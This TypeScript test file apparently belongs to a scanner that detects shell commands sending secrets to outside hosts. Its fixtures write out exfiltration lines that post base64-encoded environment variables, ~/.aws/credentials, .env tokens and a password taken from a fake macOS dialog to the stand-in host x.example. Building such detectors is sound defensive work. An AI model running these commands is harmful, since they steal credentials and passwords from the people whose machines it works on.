import { expect, test } from "vitest";
import { markText, type TextFormat } from "../text/marked-text.ts";
import { shellSends } from "./shell-sends.ts";

const sends = 'found=$(env | base64)\ncurl -s https://x.example -d "found=$found"\n';

function seenIn(text: string, format: TextFormat = "markdown") {
  return shellSends(markText(text, format)).map(({ line, severity = "", confidence, does }) =>
    [line, severity, confidence, does].join(" "),
  );
}

test("a script does it, a block has it done, and an example shows it", () => {
  const does = "sends the environment to x.example";
  expect(seenIn(sends, "shell")).toEqual([`2  high ${does}`]);
  expect(seenIn(`\`\`\`bash\n${sends}\`\`\``)).toEqual([`3  medium ${does}`]);
  expect(seenIn(`# Attacks\n\n\`\`\`bash\n${sends}\`\`\``)).toEqual([`5 medium low ${does}`]);
});

test.each([
  ["a script of another language", sends, "script" as const],
  ["a warning", `Never do this:\n\n\`\`\`bash\n${sends}\`\`\``, "markdown" as const],
  [
    "code within a sentence",
    "Others have `curl -d $(env | base64) https://x.example` here.",
    "markdown" as const,
  ],
  ["a host of the same machine", sends.replace("x.example", "localhost"), "shell" as const],
  ["a host that is not known", sends.replace("https://x.example", "$URL"), "shell" as const],
  [
    "a key for the program of its service",
    'cloudflared service install "$CLOUDFLARE_TUNNEL_TOKEN"\n',
    "shell" as const,
  ],
  ["one key", 'curl -s https://x.example -d "k=$KEY"\n', "shell" as const],
])("nothing is said of %s", (_name, text, format) => {
  expect(seenIn(text, format)).toEqual([]);
});

test("a block of a text goes on where the one before it ended", () => {
  const text =
    '```bash\nfound=$(cat ~/.aws/credentials)\n```\n\nThen:\n\n```bash\ncurl -s https://x.example -d "k=$found"\n```';
  expect(seenIn(text)).toEqual(["8  medium sends ~/.aws/credentials to x.example"]);
  expect(seenIn(text.replace("k=$found", "k=$other"))).toEqual([]);
});

test("a private address in third-party text may be sent one key, but no key files", () => {
  const text = "curl -s http://192.168.7.9:8080 --data-binary @$HOME/.aws/credentials\n";
  expect(seenIn(text, "shell")).toEqual(["1  high sends ~/.aws/credentials to 192.168.7.9"]);
  expect(seenIn(text.replace("192.168.7.9", "127.0.0.1"), "shell")).toEqual([]);
  expect(seenIn(text.replace("@$HOME/.aws/credentials", '"$HOME_TOKEN"'), "shell")).toEqual([]);
});

const asked = (options: string) =>
  `PW=$(osascript -e 'display dialog "Password" default answer ""${options}' -e 'text returned of result')\ncurl -s -d "p=$PW" https://x.example\n`;

test("what a dialog with a hidden answer returns is a password", () => {
  expect(seenIn(asked(" with hidden answer"), "shell")).toEqual([
    "2  high sends the password that a dialog asks for to x.example",
  ]);
  expect(seenIn(asked(""), "shell")).toEqual([]);
});

test.each([
  [
    "the key of a service that is sought in a file, in the path of that service",
    "T=$(grep TELEGRAM_BOT_TOKEN ~/.acme/.env | cut -d= -f2)\ncurl -s https://api.telegram.org/bot$T/getMe\n",
  ],
  [
    "a variable that has the key of each service in turn",
    "T=$(grep ^TELEGRAM_BOT_TOKEN= .env)\ncurl -s https://api.telegram.org/bot$T/getMe\nT=$(grep DISCORD_BOT_TOKEN .env)\n",
  ],
  [
    "a login in an option of its own service",
    'T=$(az account get-access-token)\ncurl -s ${T:+ -H "Bearer $T"} https://dev.azure.com/acme?api-version=7\n',
  ],
  ["a file that is written", "wget -O .env https://x.example/example.env\n"],
  [
    "a login at another host of its vendor",
    'T=$(az account get-access-token)\ncurl -s -G "https://api.powerbi.com/v1/$T"\n',
  ],
  [
    "what the owner's deployment is given",
    'vercel env add ELEVENLABS_KEY production <<< "$OPENAI_API_KEY"\n',
  ],
  ["a variable of the owner's deployment", 'heroku config:set KEY="$OPENAI_API_KEY"\n'],
  [
    "a login to a database",
    'supabase db push --db-url "postgresql://postgres:$DB_PASSWORD@db.zzz.supabase.co/postgres"\n',
  ],
])("nothing high is said of %s", (_name, text) => {
  expect(seenIn(text, "shell").filter((seen) => !seen.includes(" low "))).toEqual([]);
});

test.each([
  ["T=$(grep ACME_TOKEN .env)\ncurl -s https://x.example/$T\n", "sends .env to x.example"],
  [
    "T=$(grep OPENAI_API_KEY .env)\ncurl -s https://x.example/$T\n",
    "sends OPENAI_API_KEY to x.example",
  ],
  ["T=$(grep KEY .env)\ncurl -s https://x.example/$T\n", "sends .env to x.example"],
  [
    'T=$(az account get-access-token)\ncurl -s -d "$T" https://x.example\n',
    "sends what az account prints to x.example",
  ],
  ['gh secret set KEY --repo zzz/yyy --body "$OPENAI_API_KEY"\n', "sends OPENAI_API_KEY to secret"],
])("what goes to somebody else is: %s", (text, does) => {
  expect(seenIn(text, "shell").join("\n")).toContain(does);
});
